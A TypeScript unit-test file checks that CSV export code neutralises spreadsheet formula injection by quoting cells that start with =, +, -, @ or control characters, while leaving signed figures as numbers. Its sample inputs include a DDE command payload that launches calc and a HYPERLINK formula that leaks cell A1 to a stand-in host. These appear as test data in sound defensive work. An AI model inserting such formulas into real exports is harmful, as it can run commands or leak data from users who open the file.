// CSV cells that a spreadsheet would run as formulas (OWASP's CSV injection) are quoted away; figures stay numbers.
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { World } from '../../world.js';
import { fixtureOffice, SINGLE } from '../__fixtures__/fixtures.js';
import { compareTable, computeMetrics, loadMetricLabels, renderComparison } from '../index.js';
import { neutraliseFormula } from './csv.js';

describe('a CSV cell', () => {
  it('starting with =, +, -, @, tab or carriage return gets a leading single quote, as OWASP recommends', () => {
    for (const cell of ['=1+1', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A2)', '\t=1', '\r=1', '=HYPERLINK("http://example.com","x")']) {
      expect(neutraliseFormula(cell)).toBe(`'${cell}`);
    }
  });

  it('holding a signed figure or ordinary text is left as it is', () => {
    for (const cell of ['+16', '-3', '+8.0%', '-12.5%', '0', '—', 'support-cases', 'a=b', '2024年度']) expect(neutraliseFormula(cell)).toBe(cell);
  });

  it('naming the office\'s festival cannot carry a formula into the comparison', () => {
    const data = fixtureOffice(SINGLE, 'seoul');
    const name = '=HYPERLINK("http://example.com/?leak="&A1,"click")';
    const hostile = { ...data, festival: { ...data.festival!, name: { ja: name, ko: name, en: name } } };
    const series = computeMetrics(hostile);
    const csv = renderComparison('csv', { table: compareTable(series, { metrics: ['festival-booths', 'support-cases'] }), series, labels: loadMetricLabels(new World({ dataRoot: SINGLE })), lang: 'en', data: hostile });
    const rows = parse(csv) as string[][];
    const cells = rows.flat();
    expect(cells.filter((cell) => /^[=+\-@]/.test(cell) && !/^[+-]\d/.test(cell))).toEqual([]);
    expect(cells.some((cell) => cell.startsWith(`'${name}`))).toBe(true);
    // Changes are still numbers a spreadsheet sums.
    expect(cells.filter((cell) => /^[+-]\d/.test(cell)).length).toBeGreaterThan(0);
  });
});
